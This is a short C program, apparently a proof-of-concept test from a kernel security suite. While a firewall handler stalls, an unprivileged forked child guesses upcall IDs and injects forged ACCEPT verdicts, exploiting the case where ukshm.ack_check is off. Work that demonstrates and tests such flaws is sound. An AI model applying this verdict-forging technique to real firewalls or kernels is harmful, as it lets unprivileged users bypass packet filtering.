/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * An honest firewall lets nothing pass, but takes its time; and somebody who is nobody, the user, answers in its name.
 * The numbers of calls are easily guessed, so with ukshm.ack_check=off the user decides.
 *   forger [length of the packets, default 33]
 */
#include "attack.h"

enum { LENGTH = 33, THINKS = 2, ROUNDS = 30, GUESSES = 64 };

OBSERVABLE static void handler(struct upcall *upcall)
{
    sleep(THINKS);
    ukshm_ack(upcall->id, upcall->length, DROP);
}

/* How many answers the kernel took from the user. */
static unsigned long forge(unsigned long length)
{
    unsigned long taken = 0;
    setuid(UID_USER);
    for (int round = 0; round < ROUNDS; round++, sleep(1))
        for (unsigned long id = 1; id <= GUESSES; id++)
            taken += !ukshm_ack(id, length, ACCEPT);
    return taken;
}

int main(int argc, char **argv)
{
    unsigned long length = argc > 1 ? to_number(argv[1]) : LENGTH;
    int pid = fork();
    if (!pid) {
        say("answers that the kernel took from me, who was not asked: %lu", forge(length));
        return 0;
    }
    be_called_as(ROLE_FIREWALL, handler);
    while (wait(pid, 0) == -EINTR)
        ;
    say_what_was_dropped();
    return 0;
}
